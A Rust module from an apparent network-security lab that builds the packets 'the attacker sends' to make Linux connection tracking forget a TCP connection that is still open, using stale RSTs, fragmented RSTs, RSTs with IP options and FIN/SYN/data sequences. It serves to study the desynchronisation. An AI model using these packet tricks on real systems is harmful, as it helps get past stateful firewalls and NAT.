//! What the attacker sends.

use etherparse::{IpFragOffset, Ipv4Header, Ipv4Options};

use crate::lab::{Peer, RST, RawConn, kernel};

/// What makes conntrack forget a connection whose socket lives on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Trick {
    StaleRst,
    RstInWindow,
    RstInTwoFragments,
    RstWithIpOptions,
    FinAgain,
    FinAgainThenRst,
    SynThenRst,
    /// The rest leave the socket ESTABLISHED: no FIN that would count comes before them.
    HoleThenRst,
    HoleTwice,
    AckThenRst,
    /// In one NAPI batch: when conntrack sees the RST, TCP has not seen the data before it.
    DataThenRst,
    /// The first FIN, the RST and the next SYNs in one burst.
    FinThenRst,
}

impl Trick {
    pub(super) const ALL: [Self; 12] = [
        Self::StaleRst,
        Self::RstInWindow,
        Self::RstInTwoFragments,
        Self::RstWithIpOptions,
        Self::FinAgain,
        Self::FinAgainThenRst,
        Self::SynThenRst,
        Self::HoleThenRst,
        Self::HoleTwice,
        Self::AckThenRst,
        Self::DataThenRst,
        Self::FinThenRst,
    ];

    pub(super) fn half_closes(self) -> bool {
        !matches!(
            self,
            Self::HoleThenRst
                | Self::HoleTwice
                | Self::AckThenRst
                | Self::DataThenRst
                | Self::FinThenRst
        )
    }

    pub(super) fn play(self, peer: &Peer, conn: &mut RawConn) {
        match self {
            Self::StaleRst => conn.rst_at(stale()),
            Self::RstInWindow => conn.rst_at(100),
            Self::RstInTwoFragments => fragments(conn).iter().for_each(|p| peer.send_packet(p)),
            Self::RstWithIpOptions => peer.send_packet(&with_options(conn)),
            Self::FinAgain => {
                conn.fin_at(-1);
                conn.fin_at(-1);
                conn.ack_at(0);
            }
            Self::FinAgainThenRst => {
                conn.fin_at(-1);
                conn.rst_at(stale());
            }
            // The server answers a SYN by a challenge ACK once in half a second.
            Self::SynThenRst => {
                conn.syn();
                conn.syn();
                conn.rst_at(stale());
            }
            Self::HoleThenRst => {
                conn.fin_at(50);
                conn.rst_at(stale());
            }
            Self::HoleTwice => {
                conn.fin_at(50);
                conn.fin_at(50);
                conn.ack_at(0);
            }
            // Conntrack takes the RST for the end of what it has just seen.
            Self::AckThenRst => {
                conn.ack_at(100);
                conn.rst_at(100);
            }
            Self::DataThenRst => {
                conn.send(b"a request");
                conn.rst_at(-9);
            }
            Self::FinThenRst => {
                conn.fin_at(0);
                conn.rst_at(stale() + 1);
            }
        }
    }
}

/// Away from the next byte, behind a FIN: an RST there is believed by conntrack, and ignored by TCP.
pub(super) fn stale() -> i64 {
    kernel::stale_rst() - 1
}

fn stale_rst(conn: &RawConn) -> (Ipv4Header, Vec<u8>) {
    let packet = conn.segment(RST, stale()).to_packet();
    let (header, rest) = Ipv4Header::from_slice(&packet).expect("an IPv4 packet");
    (header, rest.to_vec())
}

fn written(header: &Ipv4Header, payload: &[u8]) -> Vec<u8> {
    let mut packet = Vec::new();
    header.write(&mut packet).expect("a header");
    packet.extend(payload);
    packet
}

/// The flags are in the second fragment.
fn fragments(conn: &RawConn) -> [Vec<u8>; 2] {
    let (whole, tcp) = stale_rst(conn);
    let (first, second) = tcp.split_at(8);
    let part = |more: bool, offset: u16, payload: &[u8]| {
        let mut header = whole.clone();
        header.identification = conn.client.port();
        header.dont_fragment = false;
        header.more_fragments = more;
        header.fragment_offset = IpFragOffset::try_new(offset).expect("a small offset");
        header.set_payload_len(payload.len()).expect("a small payload");
        written(&header, payload)
    };
    [part(true, 0, first), part(false, 1, second)]
}

fn with_options(conn: &RawConn) -> Vec<u8> {
    let (mut header, tcp) = stale_rst(conn);
    header.options = Ipv4Options::try_from(&[1_u8, 1, 1, 0][..]).expect("NOPs");
    header.set_payload_len(tcp.len()).expect("a small payload");
    written(&header, &tcp)
}
